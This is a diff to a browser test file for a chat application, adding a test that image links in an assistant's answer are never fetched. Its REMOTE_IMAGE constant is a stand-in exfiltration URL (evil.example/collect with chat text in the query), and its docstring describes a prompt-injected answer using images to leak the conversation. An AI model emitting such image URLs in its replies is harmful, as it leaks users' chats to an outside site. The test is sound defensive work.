@@ -47,7 +47,9 @@ def test_untrusted_text_never_runs(page: Page, alice: User) -> None:
     )
     answer = chat.answer_text()
     expect(answer.locator("strong")).to_have_text("bold")
+    # `src=x` is relative, so same-origin: the image stays (without its handler).
     expect(answer.locator("img")).to_have_count(1)
+    assert answer.locator("img").get_attribute("src") == "x"
     assert answer.locator("img").get_attribute("onerror") is None
     expect(page.locator(".msg-content script")).to_have_count(0)
     page.wait_for_function(
@@ -64,6 +66,33 @@ def test_untrusted_text_never_runs(page: Page, alice: User) -> None:
     expect(chat.convo(XSS)).to_be_visible()
     expect(page.locator("#convo-list img, #chat-title img")).to_have_count(0)
     assert page.evaluate("window.__xss") is None
+
+
+REMOTE_IMAGE = "https://evil.example/collect?d=secret-chat-text"
+DOT_GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
+
+
+def test_remote_images_in_an_answer_are_never_fetched(page: Page, alice: User) -> None:
+    """A prompt-injected answer cannot make the browser call another site with the chat in
+    the URL: foreign images become links; `data:image/` and same-origin images stay."""
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    chat = open_chat(page, alice.email)
+    chat.ask(
+        f"ECHO: Look ![chart]({REMOTE_IMAGE}) and ![dot]({DOT_GIF}) and "
+        f'<img src="{REMOTE_IMAGE}&raw=1" alt="raw"> and ![own](/static/chat/none.png)'
+    )
+    chat.finished()
+    answer = chat.answer_text()
+    link = answer.get_by_role("link", name="[external image: chart (evil.example)]")
+    expect(link).to_have_attribute("href", REMOTE_IMAGE)
+    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
+    expect(answer.get_by_role("link", name="[external image: raw (evil.example)]")).to_be_visible()
+    expect(answer.locator("img")).to_have_count(2)
+    expect(answer.locator("img").first).to_have_attribute("src", DOT_GIF)
+    expect(answer.locator("img").last).to_have_attribute("src", "/static/chat/none.png")
+    expect(page.locator("img[src*='evil.example']")).to_have_count(0)
+    assert not [url for url in requested if "evil.example" in url]
 
 
 def test_enter_sends_and_shift_enter_adds_a_line(
